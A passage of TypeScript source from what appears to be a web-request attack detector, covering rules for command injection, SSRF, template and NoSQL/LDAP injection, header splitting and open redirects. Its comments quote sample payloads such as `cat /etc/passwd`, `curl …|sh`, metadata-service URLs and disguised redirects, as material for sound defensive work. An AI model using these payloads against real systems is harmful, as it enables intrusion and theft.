    // `json!`): in a value that defines a macro (`macro_rules!`, `$crate::`, a rule's `(…) => {` line), of a metavariable it declares
    // (`$body:tt`) and no shell binds (review: `c='curl …|sh'⏎$($c)+` ran), they are the macro's; to a shell each substitutes the command
    // a variable names, unset
    if ((c & C_DOLLAR) !== 0 && sv.includes('$(') && RUST_MACRO.test(sv)) sv = macroRepetitions(sv)
    // (thirteenth round) a program's `&` before a name handed to a call (`errors.As(err, &sc)`, `f(&mut x)`) takes its address: no background job
    if (code && (c & C_AMP) !== 0) sv = sv.replace(ADDRESS_OF, '')
    if (code && (c & C_AMP) !== 0 && C_FAMILY.test(sv)) sv = withoutReferenceTypes(sv.replace(ADDRESS_ASSIGNED, ''))
    // (twenty-sixth round) and a C-style loop's header parts its three clauses with `;` (`for (type = 0; type < MAX; type++)`,
    // `for (cp = with; *cp != '\\0'; cp++)`): no commands (`type < MAX` is no redirection)
    // (thirty-second round: and Go's, `for start := 0; start < len(items); start += n {`)
    if (code && (c & C_SEMI) !== 0 && sv.includes('for')) sv = sv.replace(C_FOR_HEADER, 'for (…)').replace(GO_FOR_HEADER, 'for … {')
    // (fifteenth round) a program's conditions join operands with `&&` and `||` (`if fl && ps {`, `return a || b`): logic, not a shell's chain
    if (code && (c & (C_AMP | C_PIPE)) !== 0) sv = sv.replace(CONDITION_LINE, (line) => line.replace(LOGICAL, ' and '))
    // (twenty-eighth round) and Perl's and PHP's operands are sigil variables wherever they stand (`my $class = ref($proto) || $proto;`),
    // its code references take `&` (`goto &$AUTOLOAD`, `exists &{$field}`): logic and calls, not a chain or a background job
    if (code && (c & (C_AMP | C_PIPE)) !== 0 && sv.includes('$')) sv = sv.replace(SIGIL_LOGIC, ' and ').replace(CODE_REFERENCE, '')
    // (eighteenth round) a program's `#` comment lines (Ruby, Python, a shell's) are text: a usage line quoted there (`#   curl -s … | ruby`) runs nothing
    if (code && (c & C_HASH) !== 0) sv = sv.replace(HASH_COMMENT_LINE, '')
    if (code && (c & C_PIPE) !== 0 && sv.includes('~')) sv = sv.replace(BAR_SIGIL, '""')
    // (thirty-second round) Grafana's global variables (`$__url_time_range`, `${__field.labels.node}`) name no program (review: by their
    // names only, removed rather than replaced by a letter, and not where the value assigns one, `__a=id;$__a`)
    if ((sv.includes('$__') || sv.includes('${__') || sv.includes('{prop(') || sv.includes('{PROP(')) && !GRAFANA_ASSIGNED.test(sv)) sv = sv.replace(GRAFANA_VARIABLE, '')
    if ((c & C_PIPE) !== 0 && sv.includes('~"$') && PROMQL_SELECTOR.test(sv)) {
      const within = sv
      sv = sv.replace(VARIABLE_ALTERNATION, (alternation) => ((alternation.match(VARIABLE_NAME) ?? []).some((name) => variableSet(within, name)) ? alternation : alternation.replaceAll('|', ',')))
    }
    // (thirty-second round) and its GraphQL documents in tagged template literals (`` gql`⏎  user { id }⏎` ``, `` /* GraphQL */ `…` ``): a query's
    // fields, not a substitution running `id`; one holding a shell's separator, a redirection or a substitution of its own is still read
    // (sixtieth round, the spent hundred-and-forty-second part's: or a module too short to read as a program that imports the tag itself,
    // `import gql from 'graphql-tag'`, `import { gql } from '@apollo/client'`: its backticks are template literals)
    // (review: the import opening the value, and there only an operation that declares its variables, `mutation setItem($id: UUID!) {`,
    // a line a shell cannot parse: `` gql`{⏎id⏎}` `` and `` gql`fragment f on T {⏎id⏎}` `` ran `id` in dash and bash)
    if ((c & C_BACKTICK) !== 0 && (sv.includes('gql') || sv.includes('graphql'))) {
      if (code) sv = sv.replace(GRAPHQL_LITERAL, '``')
      else if (GQL_IMPORT.test(sv)) {
        // (second review: and only where nothing else is left, its imports and its declarations of the documents: a `#` before the tag,
        // `#gql\`query q($a: T) {⏎id⏎}\``, made the line a comment and ran what followed it)
        const rest = sv.replace(GRAPHQL_OPERATION, '``')
        if (GQL_MODULE.test(rest)) sv = rest
      }
    }
    // (json22) a notebook's shell escapes (`!mkdir -p data && cd data && wget -q https://…`): a document's own command lines, unless
    // one downloads and runs or opens a reverse shell
    if (this.#document && v.includes('!') && (v.charCodeAt(0) === 33 || (c & C_BREAK) !== 0)) sv = sv.replace(SHELL_ESCAPE, (line, cmd: string) => ((commandLine(cmd) || loopCommandLine(cmd)) && !PROGRAM_ATTACK.test(cmd) ? '' : line))
    // (json22) a glob's extended pattern (`+(spec|test)`): its `|` separates names
    if ((c & (C_PIPE | C_PAREN)) === (C_PIPE | C_PAREN) && EXTGLOB.test(sv)) sv = sv.replace(EXTGLOB_ALL, (m) => m.replaceAll('|', ','))
    // a body's field named for a command holding a command line (a package's script): judged as a shell program is (twenty-fifth round)
    const ownCommandLine = commandField && commandLine(sv)
    // a body's field named for a command holds a command line: only an injection into it counts
    // (twenty-third round: or one short word with quotes inside it, `wh''oami`, `w"h"o"am"i`: a program spelt for a filter)
    if ((c & (C_SEMI | C_AMP | C_PIPE | C_BACKTICK | C_BREAK | C_DOLLAR | C_BSL)) !== 0 || v.includes(' ') || ((c & C_QUOTE) !== 0 && v.length <= 40) || ((c & (C_LT | C_SLASH)) === (C_LT | C_SLASH)) || ((c & (C_BRACE | C_COMMA)) === (C_BRACE | C_COMMA)) || (v.charCodeAt(0) === 47 && v.includes('bin/')) || v.charCodeAt(0) === 37 || v.charCodeAt(0) === 33 || v.charCodeAt(0) === 123 || ((c & C_PLUS) !== 0 && (c & C_SLASH) !== 0)) {
      // a whole program in the shell sent as data: only a reverse shell or a download run at once in
      // it, or an injection on its first line (`x; cat /etc/passwd` then lines of a script)
      if (shellScript) {
        // (twenty-fifth round: a command field's own one-line script, a package's `for f in …; do …; done`, has no injected head)
        // (twenty-seventh round: nor in a document's field named for a command, a workflow's `run`: its first line is its own too)
        if (PROGRAM_ATTACK.test(sv) || (psScript && POWERSHELL_ATTACK.test(sv)) || (!ownCommandLine && !(commandField && this.#document) && programHeadInjection(buildFileHead ?? sv))) found |= BIT.rce
      } else if (!ownCommandLine && !(this.#document && commandLine(sv)) && !(this.#document && (keyInfo & COMMAND_KEY) !== 0) && !((c & (C_PAREN | C_BRACKET)) !== 0 && REGEX_SOURCE.test(sv) && !SUBSTITUTION_OPEN.test(sv)) && !((c & C_SEMI) !== 0 && (SECURITY_POLICY.test(sv) || WINDOWS_PATH_LIST.test(sv))) && !(decoded.charCodeAt(0) === 38 && ACCELERATOR.test(decoded) && !bareCommand(sv.slice(1)))) {
        // (json22: not a menu label's access key, `&Move document`, unless its word is a program that runs alone, `&Whoami`)
        if ((((c & (C_SEMI | C_AMP | C_PIPE | C_BACKTICK | C_BREAK | C_DOLLAR | C_BSL)) !== 0 || ((c & C_PAREN) !== 0 && !(commandField && COMMAND_NAMED.test(key)) && PROCESS_SUBSTITUTION.test(sv))) && rceGate(sv) && shellInjection(sv)) || appFormInjection(decoded, raw, rawApp) || ((mode !== PATH || sv.includes(' ')) && mode !== PAGE_URL && !this.#document && !commandField && (bareCommand(sv) || oobFetch(sv) || ((c & C_BRACE) !== 0 && braceProgram(sv)) || (((c & (C_DOLLAR | C_QUOTE | C_BSL | C_BRACKET | C_BRACE | C_BACKTICK)) !== 0 || ((c & C_SLASH) !== 0 && ((c & C_STAR) !== 0 || sv.includes('?')))) && bareCommand(fold(sv))) || ((c & (C_PLUS | C_SLASH)) === (C_PLUS | C_SLASH) && !sv.includes(' ') && plusCommand(sv)) || ((c & C_QUOTE) !== 0 && sv.length <= 300 && sv.includes('#') && commentedCommand(sv))))) found |= BIT.rce
      }
    }
    // another interpreter's command line: cmd.exe's IF and FOR, a mail protocol's command after a line break
    if ((found & BIT.rce) === 0 && !this.#document && !commandField && ((c & C_BREAK) !== 0 || sv.includes('if') || sv.includes('for')) && protocolCommand(sv)) found |= BIT.rce
    // interpreters and code sinks: each needs a call, braces, a tag, `/dev/` or a blank (twenty-fifth round: a command field's
    // command line, a package's script, is judged as a shell program is: its parameter expansions, `${f%.cjs}`, are its own)
    if ((found & BIT.rce) === 0 && ((c & (C_PAREN | C_BRACE | C_LT)) !== 0 || sv.includes(' ') || sv.includes('/dev/') || ((c & C_SEMI) !== 0 && sv.startsWith('data'))) && rceGate(sv) && anyOf(shellScript || ownCommandLine ? PROGRAM_RCE : code ? (PERL_PROGRAM.test(v) ? PERL_CODE_RCE : CODE_RCE) : (c & C_BREAK) !== 0 && (v.includes('resource') || v.includes('module')) && BICEP_DECLARATION.test(v) ? BICEP_RCE : RCE, sv)) found |= BIT.rce
    if ((found & BIT.rce) === 0 && !code && (c & C_DOT) !== 0 && sv.includes('classloader') && CLASS_LOADER_PATH.test(sv)) found |= BIT.rce
    if ((found & BIT.rce) === 0 && !code && !this.#document && (c & C_PCT) !== 0 && sv.includes(':~') && CMD_SUBSTRING.test(sv)) found |= BIT.rce
    // (seventeenth round) a PHP sink's name spelt backwards, in ROT13 or in base64, then called through a variable (not in a program's source)
    if ((found & BIT.rce) === 0 && !code && !shellScript && (c & C_PAREN) !== 0 && (sv.includes('strrev') || sv.includes('str_rot13') || sv.includes('base64_decode')) && phpEncodedSink(sv)) found |= BIT.rce
    if ((found & BIT.rce) === 0 && !code && !shellScript && (c & C_PAREN) !== 0 && sv.includes('.') && phpJoinedSink(sv)) found |= BIT.rce
    // (nineteenth round) a template's strings in typographic quotes, as a word processor or a page copied from turns them (`${‘a’.concat(‘b’)}`, `${“x”}`)
    let tv = (c & (C_WIDE | C_BRACE)) === (C_WIDE | C_BRACE) && TYPOGRAPHIC_QUOTE.test(v) ? v.replace(TYPOGRAPHIC_QUOTES, (q) => (q === '\u201c' || q === '\u201d' ? '"' : "'")) : v
    // (forty-first round) a PowerShell script's arrays and hashtables of literals, `-notin @(32, 40, 64)`, `@{ '$dir' = $dir }`, are its data
    if (psScript && (c & C_AT) !== 0) tv = tv.replace(PS_LITERAL_COLLECTION, 'ps-literals')
    // (forty-ninth round) a Razor block C#'s compiler refuses, Perl building its code in strings (`@{ (' . $slot_access . ') }`), is no block
    if ((c & C_AT) !== 0 && tv.includes('@{')) tv = withoutRefusedRazorBlocks(tv)
    if ((c & (C_BRACE | C_LT | C_AT | C_HASH | C_BRACKET)) !== 0 && GATE.ssti.test(v) && (!code || GATE.ssti.test(v.replace(MULTILINE_LITERALS, '""').replace(STRING_LITERALS, "''")))) {
      // (thirty-third round) a template's own page, its tags among markup over several lines: each tag judged for what it reaches, the rest as any value
      if (page === undefined || tv !== v) page = templatePage(tv)
      const t = page === null ? tv : page.rest
      if (page?.reaches === true || anyOf(SSTI, t) || (v.includes('<%#') && makoCommentBlock(v)) || (!markdown && (SSTI_TAG.test(t) || (v.length <= SHORT_TEMPLATE && !this.#document && (anyOf(SSTI_SHORT, t) || templatePolyglot(t) || constantTemplate(t)))))) found |= BIT.ssti
    }
    // (forty-first round: a PowerShell script's subscripts by a variable, `$handlers[$type]`, are no query's `[$type]` operator; review: the
    // rest of it is read as any value's or program's is, JavaScript for `$where` included — a shell script's narrower shapes would miss it)
    // (forty-sixth round: and any program's, PHP's `$this->types[$type]`, `$list[$type][] = $value;`, `$shared->types = [$type];`, where the
    // same `[$type]` indexes an array or lists a variable — the operator's is a parameter's name glued to its `=`, `user[$ne]=1`, still read)
    // (review: not a parameter's name, which Express's qs reads whatever it looks like, and not an operator a bracket follows, `[$ne][…]=`)
    const nv = (c & C_BRACKET) === 0 ? v : psScript ? v.replace(PS_INDEX, '[i]') : code && mode !== NAME ? v.replace(CODE_INDEX, '[i]') : v
    if ((c & (C_DOLLAR | C_PIPE | C_AMP | C_EQ | C_DOT | C_PAREN | C_SEMI)) !== 0 && ((GATE.nosqli.test(nv) && anyOf(shellScript && !psScript ? NOSQL_OPERATOR_SHAPES : code ? CODE_NOSQLI : NOSQLI, nv) && !(mode === NAME && STRAPI_FILTER.test(v) && !CREDENTIAL_FIELD.test(v.slice(7))) && !(v.charCodeAt(0) === 123 && dataFilterText(v))) || ((c & C_PAREN) !== 0 && (v.includes('db') || v.includes('this')) && NOSQL_CALLS.test(v)))) found |= BIT.nosqli
    // (twenty-ninth round) a document's own filter, whole (an identity provider's queries, `"filter": "(uid=*)"`,
    // `"filter": "(&(objectClass=group)(!(type=email)))"`): what the configured directory is asked, no break-out
    // (review: under a key that names a filter only, `filter`, `userFilter`: a document's `username` holding `(|(uid=*)(userPassword=*))` is
    // still a probe, as padding a request into a document is the sender's choice)
    if ((c & C_RPAREN) !== 0 && GATE.ldapi.test(v) && anyOf(LDAPI, v) && !(this.#document && key.includes('filter') && wholeFilter(v))) found |= BIT.ldapi
    // (fiftieth round) a name's prefix then a wildcard closing its own clause (`admin*)`: `(&(uid=admin*))(…)`), under a name a directory
    // is asked by only (review: a price's footnote, `Preis*)`, and `xoxo*)` in any other field)
    else if ((c & C_RPAREN) !== 0 && !this.#document && DIRECTORY_KEY.test(key) && WILDCARD_CLOSE.test(v)) found |= BIT.ldapi
    // (eighteenth round: not in a program's source, whose lines after a break are its own — a docstring's `location (str): …`)
    // (twenty-sixth round: nor in a Markdown page, whose front matter's `Title: …` lines are its own — a man page posted from a form)
    // (review: only a form's field that opens as a page, on a heading or front matter: a query's or a header's value with a list item
    // after its injected header, `/\r\nSet-Cookie: a=b\r\n- x`, is no page)
    if (mode !== PAGE_URL && !this.#inBody && !code && !(markdown && this.#inForm && (MARKDOWN_START.test(v) || SETEXT_START.test(v))) && ((c & C_BREAK) !== 0 || ((c & C_BSL) !== 0 && (v.includes('\\r') || v.includes('\\n'))) || ((c & C_PCT) !== 0 && v.includes('%0')) || ((c & C_WIDE) !== 0 && (v.includes('\u560a') || v.includes('\u560d')))) && (splitting(v, this.#inForm) || nestedSplitting(v) || (!this.#inForm && v.length <= 80 && CRLF_TRAIL.test(v)))) found |= BIT.crlf
    if (mode === VALUE || mode === HEADER) {
      if ((c & (C_COLON | C_BSL)) !== 0 || (keyInfo & URL_KEY) !== 0) found |= this.#url(v, key, keyInfo, mode)
      // (sixty-second round, the spent hundred-and-fifty-first part's miss) and its authority as the application has it, where decoding
      // made a `/` of its userinfo's `%2F` (`http://attacker.com%2F@127.0.0.1/`: a URL parser reads the host after the `@`, 127.0.0.1)
      if ((found & BIT.ssrf) === 0 && raw !== undefined && (keyInfo & URL_KEY) !== 0 && raw.includes('%') && v.includes('@')) {
        const app = appText(raw, rawApp)
        if (app !== v && app.includes('@') && app.includes('://')) found |= this.#url(app, key, keyInfo, mode) & BIT.ssrf
      }
      // a redirect is a request's parameter, not a document's field (a CDN's //host in a configuration);
      // in a body, only a field named for a redirect is one (a bare `url` there is a resource's)
      if ((keyInfo & REDIRECT_KEY) !== 0 && !this.#document && !(this.#inBody && !BODY_REDIRECT.test(key)) && !mailRecipient(key, v) && (this.#redirect(v, decoded) || this.#appRedirect(decoded, raw, rawApp))) found |= BIT.open_redirect
    }
    found |= xmlFound | queryFound
    // the URL or file an entity or a lookup names is that attack's payload, not another attack
    if (found & BIT.xxe) found &= ~(BIT.ssrf | BIT.path_traversal)
    if (found & BIT.jndi) found &= ~(BIT.ssrf | BIT.ssti)
    return found
  }

  /**
   * SSRF on a value that is a URL (not a URL quoted in text): a dangerous scheme; a metadata service,
   * an obfuscated address or an out-of-band host, always; a loopback, private or internal host when
   * it is not the request's own authority, under a parameter named for a URL, outside a document.
   */
  #url(v: string, key: string, keyInfo: number, mode: Mode): number {
    // (seventeenth round) a request line's method before a URL under a parameter named for one (`GET http://localhost:80`): the URL is the target
    if ((keyInfo & URL_KEY) !== 0 && METHOD_BEFORE_URL.test(v)) v = v.replace(METHOD_BEFORE_URL, '')
    // a document's file URL names its own files (a schema's `$id` of `file:///c:/folder/file.json`)
    if (NESTED_SCHEME.test(v) || (!this.#document && (FILE_URL.test(v) || (v.includes('file:') && FILE_URL.test(fileUrlPath(v)))))) return BIT.ssrf
    // (twelfth round) under a parameter named for a URL, a file: URL to the server's own tree (`file:///var/www/html/.env`,
    // `file:///../../etc/passwd`, `file:////localhost/c$/…`): a server that fetches it reads its own disk (a user's
    // document, `file:///home/ann/notes.txt`, stays theirs)
    if ((keyInfo & URL_KEY) !== 0 && !this.#document && FILE_URL_ANY.test(v)) return BIT.ssrf
    const m = URL_IN_VALUE.exec(v)
    if (m === null) {
      // http:127.0.0.1/  file:/etc/passwd  dict:host:11211
      const s = SCHEME_ONLY.exec(v)
      // (json22: not a protocol and a port, `HTTP:80/`, `HTTPS:443/health`: a load balancer's health check target; as a
      // number the "host" is 0.0.0.80, no one's)
      if (s !== null && (s[1] === 'http' || s[1] === 'https') && /^\\?(?:\d|\[|localhost)/.test(s[2]!) && !PORT_TARGET.test(s[2]!)) return BIT.ssrf
      // (seventeenth round) a JDBC URL names its database's host after the driver's scheme (`jdbc:mysql://127.0.0.1:3306/`,
      // `jdbc:oracle:thin:@127.0.0.1:1521:XE`): judged as a URL's host is (a configuration's `jdbc:postgresql://{host}/db` is none)
      if (s !== null && s[1] === 'jdbc') {
        const db = JDBC_HOST.exec(s[2]!)
        return db !== null && this.#internal(hostOf(db[1]!), 'http', key, keyInfo, mode) ? BIT.ssrf : 0
      }
      // (seventeenth round) also a jar's entry (`jar:127.0.0.1!/`)
      if (s !== null && (SMUGGLING_SCHEME.test(s[1]!) || (!this.#document && DANGEROUS_SCHEME.test(s[1]!))) && SCHEME_REST.test(s[2]!)) return BIT.ssrf
      // a bare host or address under a parameter named for a URL: 127.1  0x7f000001  [::1]:80  localhost
      // (fourteenth round: an IPv4 address with its port, 127.0.0.1:22, is that address, not an IPv6 one; as a
      // raw query of its own, ?[::]:22, a host and a port are a target too)
      if (((keyInfo & URL_KEY) !== 0 || (this.#wholeQuery && PORT.test(v))) && !this.#document) {
        const bare = BARE_HOST.exec(v)
        const h = bare === null ? '' : hostOf(bare[1]!)
        // (twenty-ninth round) a decimal number alone is a number (`page=12`, a postcode `25740`, a year), unless the address it
        // spells from 1.0.0.0 on is an internal one (`2130706433`, `3232235777`)
        // (review of the forty-first round: and one that is, by either reading, is a target — `0169.254.43518` is 169.254.169.254 to Java)
        if (bare !== null && DECIMAL_HOST.test(h)) return internalDecimal(h) ? BIT.ssrf : 0
        // (twenty-ninth round) a network in CIDR notation (`service_subnet=192.168.16.0/24`) is no host a server connects to
        if (bare !== null && CIDR.test(v.trim())) return 0
        if (bare !== null && PRIVATE_SUFFIX_ALONE.test(v)) return 0
        if (bare !== null && this.#internal(h.includes(':') && !h.startsWith('[') ? (IPV4_PORT.test(h) ? h.replace(PORT, '') : `[${BARE_IPV6.test(h) ? h.replace(PORT, '') : h}]`) : h, 'http', key, keyInfo, mode)) return BIT.ssrf
      }
      return 0
    }
    const scheme = m[1]!
    // (a document's example of a scheme at a host reserved for documentation, `ldap://[2001:db8::7]/c=GB`, is no target)
    if ((SMUGGLING_SCHEME.test(scheme) && !(this.#document && DOCUMENTATION_HOST.test(m[2]!))) || (!this.#document && DANGEROUS_SCHEME.test(scheme))) return BIT.ssrf
    // every host the authority may name: http://a:80\@@b:80/  http://a#@b  http://a &@b# @c (parsers disagree)
    const start = v.indexOf('://') + 3
    const authority = v.slice(start, start + 300)
    // (forty-eighth round: a query that opens on `@`, `http://evil.com?@127.0.0.1`, is the authority's to a lenient parser)
    const end = authority.search(/\/|\?(?!@)/)
    const region = end === -1 ? authority : authority.slice(0, end)
    if (ENCLOSED.test(region)) return BIT.ssrf
    let hosts = 0
    // a host spelled with escapes between its letters (http://\\l\\o\\c\\a\\l\\h\\o\\s\\t/) is read without them
    // (a NUL ends the host for a resolver written in C: http://127.0.0.1%00shop.example.com)
    // (eighteenth round) a regular expression's backreference as the host (`https://\\1?x`, a redirect rule's substitution) names no one
    if (BACKREFERENCE_HOST.test(region)) return 0
    const tokens = region.split(/[@\\#&?\s\0]+/)
    if (region.includes('\\') && !region.includes('@')) tokens.push(region.replace(BACKSLASHES, ''))
    for (let token of tokens) {
      if (token === '') continue
      // an IPv6 address without its brackets (http://0000::1:80/), as lenient parsers take it
      if (!token.startsWith('[') && BARE_IPV6.test(token)) token = `[${token.replace(PORT, '')}]`
      const h = hostOf(token.startsWith('[') ? token.slice(0, token.indexOf(']') + 1) : token.replace(/:[^:]*$/, ''))
      if (h !== '' && this.#internal(h, scheme, key, keyInfo, mode)) return BIT.ssrf
      // (twelfth round) a host of one label (`http://redis`, `https://internal-api`, `http://kubernetes`) resolves
      // only inside a network, through its search domains: a URL parameter's value naming one is internal
      // (twentieth round: for a scheme that reaches a network service; an app's own scheme names no host, `myapp://callback`,
      // `com.example.app://oauth`, a native app's OAuth return under `redirect_uri`)
      if ((keyInfo & URL_KEY) !== 0 && !this.#document && tokens.length === 1 && SINGLE_LABEL.test(h) && h !== this.#host && NETWORK_SCHEME.test(scheme) && !oauthLoopback(h, scheme, key)) return BIT.ssrf
      if (h.includes('.')) hosts++
    }
    // an authority parsers read differently, naming several hosts (http://1.1.1.1 &@2.2.2.2# @3.3.3.3/):
    // the check and the fetch may not go to the same one
    const at = region.lastIndexOf('@')
    if (hosts > 1 && at > 0 && (region.indexOf('@') !== at || CONFUSING_AUTHORITY.test(region.slice(0, at))) && !this.#document && ((keyInfo & URL_KEY) !== 0 || key === '')) return BIT.ssrf
    // a redirector or proxy handed an internal target: https://r.example/301-http-169.254.169.254-.jpg
    if (!this.#document && ((keyInfo & URL_KEY) !== 0 || key === '') && (METADATA_IN_URL.test(v) || /[?&=/]https?(?::|%3a)\/\/(?:127\.|localhost|169\.254\.|\[::1?\])/.test(v) || HANDED_SCHEME.test(v))) return BIT.ssrf
    return 0
  }

  /**
   * An internal target: a metadata service, an obfuscated address or a testing domain, always; a
   * private host by a web scheme, under a parameter named for a URL (or a lone value), outside a
   * document (configurations name their own services), and not the request's own authority nor a
   * loopback address asked for by a client that reached this one on loopback itself.
   */
  #internal(h: string, scheme: string, key: string, keyInfo: number, mode: Mode): boolean {
    if (METADATA_HOST.test(h) || OOB_HOST.test(h) || (h.length < 120 && METADATA_IN_NAME.test(h))) return true
    // octets past 255 wrap in some parsers (425.510.425.510 is 169.254.169.254); a document's `999.999.999.999`
    // (a test suite's invalid address) wraps to no one's internal address
    if (obfuscatedAddress(h)) return !this.#document || !DOTTED_DECIMAL.test(h) || anyOf(PRIVATE_HOST, wrapped(h)) || METADATA_HOST.test(wrapped(h))
    // (twenty-ninth round) a key naming an IP address as data: a private one is a record, no target (a metadata address or a spelt
    // one above still is)
    if (IP_ADDRESS_KEY.test(key)) return false
    // a name ending in a private address (shop.example.com.127.0.0.1): a check reading its start, a parser its end
    if (!anyOf(PRIVATE_HOST, h) && !(h.charCodeAt(0) === 91 && embeddedInternal(h)) && !(h.length < 120 && TRAILING_ADDRESS.test(h) && anyOf(PRIVATE_HOST, TRAILING_ADDRESS.exec(h)![1]!)) && !(h.length < 120 && h.includes('-') && DASHED_ADDRESS.test(h))) return false
    // (twelfth round) under a parameter named for a URL, any scheme to a private host is a request the
    // server makes to an internal service (`redis://localhost:6379/info`, `smtp://localhost:25/`)
    if (this.#document || (!WEB_SCHEME.test(scheme) && (keyInfo & URL_KEY) === 0)) return false
    if (h === this.#host || (isLoopback(h) && isLoopback(this.#host))) return false
    // (thirtieth round) an OAuth client's redirection to its own loopback listener, as a native app or a command-line tool registers it (RFC 8252,
    // 7.3: `redirect_uri=http://127.0.0.1:51004/callback`): the browser goes there, the server fetches nothing
    if (oauthLoopback(h, scheme, key)) return false
    return key === '' || (keyInfo & URL_KEY) !== 0 || mode === HEADER
  }

  /**
   * An absolute URL to another host that names this request's own host elsewhere (`https://shop.example.com.evil.example`,
   * `https://evil.example/?shop.example.com`, `https://sshop.example.com`): the shape that passes a check looking
   * for the own host in the string. A URL of ours handed on as a parameter's value (`…/authorize?redirect_uri=https://own/cb`) is a flow's.
   */
  #namesOwnElsewhere(v: string, host: string): boolean {
    const h = host.toLowerCase()
    const own = this.#own
    for (const name of this.#ownSites) {
      if (name.length < 4 || h === name || h.endsWith(`.${name}`)) continue
      // the site's name (not a host of ours) counts in the authority or right after `?`, `#` or `@` only: a URL to
      // another site with our name in its path is a lookup or an archive of us (`https://whois.example/example.com`)
      const site = !own.includes(name)
      for (let i = v.indexOf(name), n = 0; i !== -1 && n < 8; i = v.indexOf(name, i + 1), n++) {
        if (/=\s*https?:\/\/$/.test(v.slice(Math.max(0, i - 9), i))) continue
        if (!site) return true
        // (review) and as labels of their own: glued to other letters it is another name (`dropbox.com` for `x.com`,
        // `booking.com` for `ing.com`, `example.community`); an `@` in the query is an address's (`login_hint=a@example.com`)
        if (SITE_GLUED.test(v.charAt(i - 1)) || SITE_GLUED.test(v.charAt(i + name.length))) continue
        const end = authorityEnd(v)
        // (review) our site under a country's code is the brand's site there (`www.example.com.br`, `google.com.au`)
        if (i < end && COUNTRY_SITE.test(v.slice(i + name.length, i + name.length + 12))) continue
        if (i < end || '?#'.includes(v.charAt(i - 1))) return true
        if (v.charAt(i - 1) === '@' && (i - 1 < queryStart(v, end) || '?#/'.includes(v.charAt(i - 2)))) return true
      }
    }
    return false
  }

  /**
   * (fiftieth round) The redirect as the application hands it to the browser: the value as sent, with only the application's own decoding
   * (`rawApp`: a query's or a form's percent-decoding, once), where the detector's decoding made another value of it. An escape the
   * application leaves is the browser's to read, and it reads it after the authority is parsed: `https://app.example%2F@evil.example`,
   * sent encoded once more, is `https://app.example/@evil.example` to the detector's repeated decoding, a path on the site, but a
   * userinfo before `evil.example` to the browser.
   */
  #appRedirect(decoded: string, raw: string | undefined, rawApp: number): boolean {
    if (raw === undefined) return false
    const app = appView(raw, rawApp)
    if (app === decoded || app.length >= 300 || !ABSOLUTE_URL.test(app)) return false
    // the host a browser goes to, as the URL standard parses the value (review: not a broken URL, `https://app.example%2Fpath`, whose
    // encoded slash no host may hold, which the browser refuses), where it is not the one the decoded value names, nor one of ours
    const host = browserHost(app)
    if (host === undefined) return false
    const decodedAt = ABSOLUTE_URL.exec(decoded.toLowerCase())
    if (decodedAt !== null && hostOf(decodedAt[1]!.replace(LEADING_USERINFO, '').replace(TRAILING_PORT, '')) === host) return false
    return !this.#own.some((own) => host === own || host.endsWith(`.${own}`))
  }

  /**
   * An open redirect: a disguised URL (protocol-relative, backslashes, userinfo, tabs, look-alike
   * characters, a script URL), or an absolute one to an address spelled to hide it; a plain absolute
   * URL is how OAuth and most login flows name their return page, and is not reported.
   */
  #redirect(v: string, raw?: string, depth = 0, bareTarget = true): boolean {
    return this.#redirectOne(v, raw, depth, bareTarget) || (depth < 2 && v.includes('?') && this.#nestedRedirect(v, depth))
  }

  /**
   * (fourteenth round) A URL or a path whose own query hands a disguised target to a redirect parameter
   * (`https://target/logout?returnTo=///evil`, `/auth/post-login?redirect=/\evil`, `…/login?continue=http:/evil`):
   * the page named redirects on. A plain URL there (an OAuth flow's `redirect_uri=https://client/cb`) is not one.
   */
  #nestedRedirect(v: string, depth: number): boolean {
    const text = v.slice(v.indexOf('?') + 1, v.indexOf('?') + 1 + 1000)
    let start = 0
    for (let n = 0; n < 32 && start < text.length; n++) {
      let end = text.indexOf('&', start)
      if (end === -1) end = text.length
      const eq = text.indexOf('=', start)
      if (eq !== -1 && eq < end - 1 && REDIRECT_PARAM.test(text.slice(start, eq))) {
        const inner = decodeValue(text.slice(eq + 1, end), true).toLowerCase()
        if (this.#redirect(inner, inner, depth + 1, NESTED_URL_PARAM.test(text.slice(start, eq)))) return true
      }
      start = end + 1
    }
    return false
  }

  /**
   * (fifty-third round) An absolute URL (`m`: its match of ABSOLUTE_URL in `v`) to another host, `target`, spelt to pass a check
   * that compares text: a trailing dot after the host (`https://evil.com./`), a site's whole name as the host's first labels, a
   * symbol in the authority, a line break after it (SITE_AS_LABELS and the rest).
   */
  #speltTarget(v: string, m: RegExpExecArray, target: string): boolean {
    if (!target.includes('.') || this.#own.some((own) => target === own || target.endsWith(`.${own}`))) return false
    const authority = m[1]!.replace(LEADING_USERINFO, '').replace(TRAILING_PORT, '')
    const rest = v.slice(m[0].length, m[0].length + 300)
    return authority.endsWith('.') || (SITE_AS_LABELS.test(target) && !NAMED_FOR_SITE.test(target)) || HOST_SYMBOL.test(m[1]!) || BREAK_AFTER_HOST.test(rest.trimEnd())
  }

  #redirectOne(v: string, raw: string | undefined, depth: number, bareTarget: boolean): boolean {
    // (twentieth round) a scheme no web page's redirect goes to: a file, a share, an FTP server (`file://evil.com`, `smb://…`, where a
    // browser hands over the user's credentials or opens what it finds), Windows' protocol handlers
    if (FOREIGN_SCHEME.test(v)) return true
    // a slash's hex behind a dollar sign where a percent sign belongs ($2f%2fevil.example, %2f$2fevil.example)
    if (v.includes('$2f')) return this.#redirect(v.replaceAll('$2f', '/'), raw, depth, bareTarget)
    // (fourteenth round) a climb straight into a protocol-relative URL (`/..//evil.example`), which a browser folds to `//evil.example`
    if (CLIMB_TO_HOST.test(v)) return true
    // (fourteenth round) control characters before a URL to another host (`%09https://evil`, `%01https://evil`): a
    // check comparing the value's start reads no URL, a browser strips them
    const lead = LEADING_CONTROLS.exec(v)
    if (lead !== null) {
      const u = ABSOLUTE_URL.exec(v.slice(lead[0].length))
      const target = u === null ? '' : hostOf(u[1]!.replace(TRAILING_PORT, ''))
      // (review) a host of our site's is ours (a line break pasted before `https://accounts.example.com/` from `shop.example.com`)
      if (target.includes('.') && !this.#ownSites.some((own) => target === own || target.endsWith(`.${own}`))) return true
    }
    // a redirector's own path handed over (/out?//evil.example), a path that starts with a URL (/https://evil)
    if (REDIRECT_PATH.test(v) || /^\s*\/https?:\/\/[^/\s]/.test(v)) return true
    if (DISGUISED_URL.test(v)) {
      const plain = ABSOLUTE_URL.exec(v)
      // a plain //host or https://host of the request's own is a redirect inside the site
      return plain === null || !this.#own.includes(plain[1]!.split(':')[0]!) || /[\\@\t]/.test(v)
    }
    const m = ABSOLUTE_URL.exec(v)
    if (m !== null) {
      const target = hostOf(m[1]!.replace(TRAILING_PORT, ''))
